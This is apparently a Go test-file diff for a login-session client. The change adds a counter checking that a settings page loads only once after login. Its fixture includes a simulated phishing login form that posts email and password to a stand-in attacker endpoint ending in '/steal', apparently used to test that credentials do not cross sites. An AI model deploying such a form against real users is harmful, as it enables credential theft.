@@ -11,6 +11,7 @@ import (
 	"os"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -114,7 +115,10 @@ func siteA(evil *hostile) http.Handler {
 		html(w, 200, `<!doctype html><html lang="en"><body><main role="main"><form method="post" action="`+evil.url+`/steal">
 <input aria-label="Email" name="u"><input aria-label="Password" type="password" name="p"><button>Log in</button></form></main></body></html>`)
 	})
-	mux.HandleFunc("GET /settings/ok", guard(func(w http.ResponseWriter, r *http.Request) { html(w, 200, settingsHTML("en", "On")) }))
+	mux.HandleFunc("GET /settings/ok", guard(func(w http.ResponseWriter, r *http.Request) {
+		okServed.Add(1)
+		html(w, 200, settingsHTML("en", "On"))
+	}))
 	mux.HandleFunc("GET /settings/unset", guard(func(w http.ResponseWriter, r *http.Request) { html(w, 200, settingsHTML("en", "Not set up")) }))
 	mux.HandleFunc("GET /settings/fr", guard(func(w http.ResponseWriter, r *http.Request) { html(w, 200, settingsHTML("fr", "On")) }))
 	mux.HandleFunc("GET /settings/500", func(w http.ResponseWriter, r *http.Request) { html(w, 500, "<h1>Internal error</h1>") })
@@ -157,6 +161,9 @@ func siteA(evil *hostile) http.Handler {
 	})
 	return mux
 }
+
+// okServed counts the logged-in loads of /settings/ok.
+var okServed atomic.Int32
 
 type creds struct{}
 
@@ -255,8 +262,14 @@ func TestNothingCrossesToAnotherSite(t *testing.T) {
 func TestLoginAndRead(t *testing.T) {
 	f := newFixture(t)
 	s := f.session(t)
+	okServed.Store(0)
 	if _, err := s.ReadSettings(context.Background(), "ok"); err != nil {
 		t.Fatal(err)
+	}
+	// The login sends the tab back to the page: it is read there, not
+	// loaded a second time.
+	if n := okServed.Load(); n != 1 {
+		t.Errorf("the settings page was served %d times after the login; want 1", n)
 	}
 	if _, err := s.ReadSettings(context.Background(), "unset"); err != nil {
 		t.Fatal(err)
